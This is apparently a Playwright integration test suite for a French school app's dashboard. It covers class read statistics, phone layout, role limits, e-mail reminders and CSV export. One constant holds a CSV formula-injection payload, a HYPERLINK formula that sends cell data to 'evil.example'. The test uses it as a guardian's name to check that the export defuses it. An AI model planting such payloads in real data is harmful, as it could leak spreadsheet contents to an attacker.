# ruff: noqa: RUF001 — French text uses typographic apostrophes
"""The "Tableau de bord" (issue 17) in Chromium against the real server (demo school, with the
admin API to give a guardian a hostile name): the director's board on a desktop and on a phone,
a teacher's view of their class only, the CSV export downloaded and free of formulas, the
e-mail reminder, and "Ouvrir une conversation". Saves docs/screenshots/board-desktop.png and
board-phone.png."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, BrowserContext, Page, ViewportSize, expect

from tests.browser.liaison_browser import (
    API_KEY,
    DESKTOP,
    PHONE,
    REPO,
    ProtocolClient,
    Server,
    _serve,
    admin,
    sign_in,
    watch_csp,
)

pytestmark = pytest.mark.integration

SCREENSHOTS = REPO / "docs" / "screenshots"
EVIL = '=HYPERLINK("http://evil.example/?q="&A1;"Cliquez ici")'


def adams_guardian(server: Server, name: str) -> None:
    admin(server, "PUT", "/admin/people/p-adam", {"school_id": "ecole-jaures", "name": name,
                                                  "role": "guardian", "phone": "+33 6 12 34 56 78"})


def screenshot(page: Page, server: Server, name: str) -> None:
    """The board as the README shows it: Adam's guardian under a plain name for the picture
    (the hostile name is the CSV test's, not what a school would see), then back."""
    adams_guardian(server, "Karim Benali")
    page.reload()
    expect(page.locator(".family", has_text="Karim Benali").first).to_be_visible()
    SCREENSHOTS.mkdir(parents=True, exist_ok=True)
    page.screenshot(path=str(SCREENSHOTS / name), full_page=True)
    adams_guardian(server, EVIL)
    page.reload()
    expect(page.locator(".family", has_text=EVIL).first).to_be_visible()


@pytest.fixture
def board_server(tmp_path: Path) -> Iterator[Server]:
    """The demo school with the admin API on, and some class life: posts, an announcement,
    a few reads, and a guardian whose name and phone would be formulas in a spreadsheet."""
    with _serve(tmp_path / "server", ["--demo"], {"LIAISON_API_KEY": API_KEY}, None, 30.0) as server:
        admin(server, "PUT", "/admin/schools/ecole-jaures/quiet-hours",  # reminders whenever the suite runs
              {"start": "00:00", "end": "00:00", "weekends": False, "timezone": "Europe/Paris"})
        adams_guardian(server, EVIL)
        teacher, director = ProtocolClient(server.url, "t-martin"), ProtocolClient(server.url, "d-bernard")
        nguyen = ProtocolClient(server.url, "t-nguyen")
        father, durand = ProtocolClient(server.url, "p-lea-pere"), ProtocolClient(server.url, "p-durand")
        try:
            for title in ("Sortie au musée", "Poésie à apprendre", "Photos de classe"):
                teacher.publish("class:cp-a", "post", title=title, text=f"{title} : les détails.")
            last = nguyen.publish("class:cm2-b", "post", title="Piscine jeudi", text="Maillot et bonnet.")
            notice = director.publish("school:ecole-jaures", "announcement", title="Grève jeudi",
                                      text="Pas de cantine jeudi.", urgent=True)
            father.call("read", channel="class:cp-a", seq=3)
            durand.call("read", channel="class:cm2-b", seq=last["seq"])
            durand.call("read", channel="school:ecole-jaures", seq=notice["seq"])
        finally:
            for client in (teacher, director, nguyen, father, durand):
                client.close()
        yield server


@pytest.fixture
def open_as(browser: Browser, board_server: Server) -> Iterator[Callable[..., Page]]:
    contexts: list[BrowserContext] = []
    violations: list[list[str]] = []

    def make(user: str, viewport: ViewportSize = DESKTOP) -> Page:
        context = browser.new_context(viewport=viewport, locale="fr-FR", timezone_id="Europe/Paris",
                                      accept_downloads=True)
        context.set_default_timeout(10_000)
        contexts.append(context)
        violations.append(watch_csp(context))
        page = sign_in(context, board_server.url, user)
        page.get_by_role("link", name="Tableau de bord").click()
        expect(page.get_by_role("heading", name="Tableau de bord", level=1)).to_be_visible()
        return page

    yield make
    for context in contexts:
        context.close()
    found = [v for seen in violations for v in seen]
    assert not found, f"Content-Security-Policy violations: {found}"


def test_the_directors_board_on_a_desktop(open_as, board_server: Server) -> None:
    page = open_as("d-bernard")
    table = page.locator("table.board-table")
    expect(table.locator("tr[data-class=cp-a]")).to_contain_text("CP A")
    cp = table.locator("tr[data-class=cp-a] td")
    expect(cp.nth(0)).to_have_text("2")  # families
    expect(cp.nth(1)).to_have_text("0")  # Léa's father and Hugo's mother have read: both signed in
    expect(cp.nth(4)).to_contain_text("médiane 50 %")
    expect(page.locator(".board-ann", has_text="Grève jeudi")).to_contain_text("vue par 2/4 familles")
    expect(table.locator("tr[data-class=cm2-b] td").nth(3)).to_have_text("1")  # inactive: Adam's family
    never = page.locator(".list-never_signed_in")
    expect(never.locator("summary .badge")).to_have_text("1")  # Adam's family: nobody ever came
    screenshot(page, board_server, "board-desktop.png")

    # "Exporter (CSV)": a file Excel opens in columns, where no cell is a formula
    with page.expect_download() as caught:
        never.get_by_role("button", name="Exporter (CSV)").click()
    download = caught.value
    assert download.suggested_filename == "familles-ecole-jaures-never-signed-in.csv"
    raw = Path(download.path()).read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))
    assert rows[0][:3] == ["Classe", "Élève", "Responsable"]
    adam = next(r for r in rows if r[1] == "Adam Benali")
    assert adam[2] == "'" + EVIL and adam[4] == "'+33612345678"
    assert all(not cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)
    # the page shows the name as text, never as a link it would follow
    expect(never.locator(".family", has_text="Adam Benali")).to_contain_text(EVIL)

    # remind the unread families of the announcement, once a day
    announcement = page.locator(".board-ann", has_text="Grève jeudi")
    announcement.get_by_role("button", name="Relancer par e-mail").click()
    # Léa's parents (Adam's guardian has no e-mail address any more)
    expect(page.locator(".view-board .form-status")).to_have_text("Relance envoyée à 2 responsables.")
    expect(announcement.get_by_role("button", name="Relance envoyée aujourd’hui")).to_be_disabled()
    page.reload()  # a new page, or another director: the server refuses a second one today
    announcement.get_by_role("button", name="Relancer par e-mail").click()
    expect(page.locator(".view-board .form-status")).to_contain_text("déjà été relancées aujourd’hui")

    # talk to a family from the list
    never.locator(".family", has_text="Adam Benali").get_by_role("button", name="Ouvrir une conversation").click()
    expect(page).to_have_url(re.compile(r"#/chat/chat%3As-adam~d-bernard$"))


def test_the_directors_board_on_a_phone(open_as, board_server: Server) -> None:
    page = open_as("d-bernard", viewport=PHONE)
    row = page.locator("tr[data-class=cm2-b]")
    expect(row).to_contain_text("CM2 B")
    expect(row.locator("td").first).to_be_visible()
    # on a phone each class is a card of labelled lines, no wider than the screen
    assert page.evaluate("document.documentElement.scrollWidth") <= PHONE["width"]
    expect(page.locator(".list-inactive summary")).to_be_visible()
    screenshot(page, board_server, "board-phone.png")


def test_a_teacher_sees_their_class_only(open_as) -> None:
    page = open_as("t-martin", viewport=PHONE)
    expect(page.get_by_role("heading", name="CP A", level=2)).to_be_visible()
    expect(page.locator("tr[data-class=cm2-b]")).to_have_count(0)
    expect(page.locator(".board-announcements")).to_have_count(0)  # the school's board is the director's
    posts = page.locator(".board-posts")
    posts.locator("summary").click()
    expect(posts).to_contain_text("Sortie au musée")
    expect(posts).to_contain_text("vue par 1/2 familles")
    assert page.evaluate("document.documentElement.scrollWidth") <= PHONE["width"]


def test_guardians_have_no_board(board_server: Server, browser: Browser) -> None:
    context = browser.new_context(viewport=PHONE, locale="fr-FR")
    try:
        page = sign_in(context, board_server.url, "p-durand")
        expect(page.get_by_role("link", name="Tableau de bord")).to_have_count(0)
        page.goto(board_server.url + "/#/board")
        expect(page.get_by_role("heading", name="Tableau de bord")).to_have_count(0)
    finally:
        context.close()
